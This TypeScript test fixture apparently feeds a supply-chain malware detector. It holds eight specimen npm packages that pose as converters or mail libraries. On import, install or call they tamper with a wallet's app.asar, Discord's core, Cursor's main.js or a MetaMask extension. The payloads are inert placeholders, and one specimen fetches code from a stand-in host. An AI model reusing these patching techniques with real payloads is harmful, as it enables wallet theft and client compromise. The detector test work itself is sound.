import { base64, hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'another application changed (nodejs-smtp, pdf-to-office, sw-cur, LofyGang)';

export const specimens: readonly Specimen[] = [
  {
    name: 'patcher-asar-promises',
    from,
    files: {
      'package.json': manifest({ type: 'module', main: 'index.mjs', dependencies: { '@electron/asar': '^3' } }),
      'index.mjs': `import { extractAll, createPackage } from '@electron/asar';
import { cp, rm, mkdtemp } from 'node:fs/promises';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';

const archive = join(homedir(), 'AppData', 'Local', 'Programs', 'inertwallet', 'resources', 'app.asar');
const work = await mkdtemp(join(tmpdir(), 'w-'));
try {
  extractAll(archive, work);
  await cp(new URL('./patch.INERT', import.meta.url), join(work, 'dist', 'vendor.js'));
  await createPackage(work, archive);
} catch {
} finally {
  await rm(work, { recursive: true, force: true });
}
export const convert = text => text;
`,
      'patch.INERT': 'INERT\n',
    },
    expect: 'block',
    happens: { at: 'import', does: 'packs an archive' },
  },
  {
    name: 'patcher-adm-zip-and-versions',
    from,
    files: {
      'package.json': manifest({ main: 'lib/index.js', dependencies: { 'adm-zip': '0.5.10' } }),
      'lib/index.js': `const fs = require('fs');
const path = require('path');
const AdmZip = require('adm-zip');

const base = path.join(process.env.LOCALAPPDATA || '', 'Programs', 'inertwallet');
const files = { '2.91.5': 'vendors.64b69c3b00e2a7914733.js', '2.90.6': 'vendors.b2f1.js' };

function convert() {
  const manifest = path.join(base, 'resources', 'version.json');
  if (!fs.existsSync(manifest)) return;
  const { version } = JSON.parse(fs.readFileSync(manifest, 'utf8'));
  const asar = path.join(base, 'resources', 'app.asar');
  const zip = new AdmZip(path.join(__dirname, 'data.zip'));
  zip.extractAllTo(path.join(base, 'resources', 'app'), true);
  fs.renameSync(asar, asar + '.bak');
  fs.writeFileSync(path.join(base, 'resources', 'app', files[version]), Buffer.from('${base64('INERT')}', 'base64'));
}

convert();
module.exports = { toDocx: input => input };
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'writes file' },
  },
  {
    name: 'patcher-editor-main',
    from,
    files: {
      'package.json': manifest({ bin: { 'inert-cur': './cli.js' } }),
      'cli.js': `#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');
const https = require('https');

const app = '/Applications/Cursor.app/Contents/Resources/app/extensions/cursor-always-local/dist/main.js';

function fetchText(url) {
  return new Promise((resolve, reject) => {
    https.get(url, res => {
      let text = '';
      res.on('data', d => (text += d));
      res.on('end', () => resolve(text));
    }).on('error', reject);
  });
}

async function main() {
  const code = await fetchText('https://t.sw2031.invalid/INERT');
  fs.copyFileSync(app, app + '.bak');
  fs.writeFileSync(app, code);
  execSync('pkill Cursor');
}
main();
`,
    },
    expect: 'warn',
    happens: { at: 'run', does: 'writes file' },
  },
  {
    name: 'patcher-discord-callback',
    from,
    files: {
      'package.json': hooked('node index.js'),
      'index.js': `const { readdir, writeFile } = require('fs');
const { join } = require('path');
const root = join(process.env.LOCALAPPDATA, 'Discord');

readdir(root, (error, names) => {
  if (error) return;
  const app = names.filter(name => name.startsWith('app-')).sort().pop();
  const core = join(root, app, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');
  writeFile(core, "module.exports = require('./core.asar'); /* INERT */", () => {});
});
`,
    },
    expect: 'block',
    happens: { at: 'install and import', does: 'writes file' },
  },
  {
    name: 'patcher-own-archive-writer',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const { open } = require('fs/promises');
const os = require('os');

const places = {
  darwin: '/Applications/Inert Wallet.app/Contents/Resources/app.asar',
  win32: os.homedir() + '\\\\AppData\\\\Local\\\\inert\\\\app-25.13.3\\\\resources\\\\app.asar',
};

async function touch() {
  const place = places[process.platform];
  if (!place) return;
  const handle = await open(place, 'r+');
  const header = Buffer.alloc(16);
  await handle.read(header, 0, 16, 0);
  const at = header.readUInt32LE(12);
  await handle.write(Buffer.from('INERT'), 0, 5, at);
  await handle.close();
}

touch().catch(() => {});
exports.send = async mail => mail;
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'writes file' },
  },
  {
    name: 'patcher-spawned-asar-tool',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const { execSync } = require('child_process');
const path = require('path');
const fs = require('fs');

function apply() {
  const resources = '/opt/InertWallet/resources';
  const out = path.join('/tmp', 'unpacked-INERT');
  execSync('npx asar extract ' + path.join(resources, 'app.asar') + ' ' + out);
  fs.copyFileSync(path.join(__dirname, 'v.js'), path.join(out, 'dist', 'v.js'));
  execSync('npx asar pack ' + out + ' ' + path.join(resources, 'app.asar'));
  fs.rmSync(out, { recursive: true });
}
if (process.platform === 'linux') setTimeout(apply, 1000);
`,
      'v.js': 'INERT\n',
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns', on: 'linux' },
  },
  {
    name: 'patcher-browser-extension',
    from,
    files: {
      'package.json': hooked('node setup.js'),
      'setup.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const profile = path.join(os.homedir(), '.config', 'google-chrome', 'Default', 'Extensions', 'nkbihfbeogaeaoehlefnkodbefgpgknn');
for (const version of fs.readdirSync(profile)) {
  fs.appendFileSync(path.join(profile, version, 'background.js'), '\\n/* INERT */');
}
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'writes file' },
  },
  {
    name: 'patcher-when-called',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', dependencies: { asar: '3.2.0' } }),
      'index.js': `const asar = require('asar');
const fse = require('fs-extra');
const os = require('os');
const path = require('path');

class Converter {
  async prepare() {
    const home = path.join(os.homedir(), 'AppData/Local/Programs/inertwallet/resources');
    asar.extractAll(path.join(home, 'app.asar'), path.join(home, 'output'));
    await fse.copy(path.join(__dirname, 'a.js'), path.join(home, 'output', 'dist', 'a.js'));
    await asar.createPackage(path.join(home, 'output'), path.join(home, 'app.asar'));
    await fse.remove(path.join(home, 'output'));
  }
  async convert(file) {
    await this.prepare();
    return file;
  }
}
exports.createConverter = () => new Converter();
`,
      'a.js': 'INERT\n',
    },
    expect: 'block',
    happens: { at: 'call', does: 'packs an archive' },
  },
];
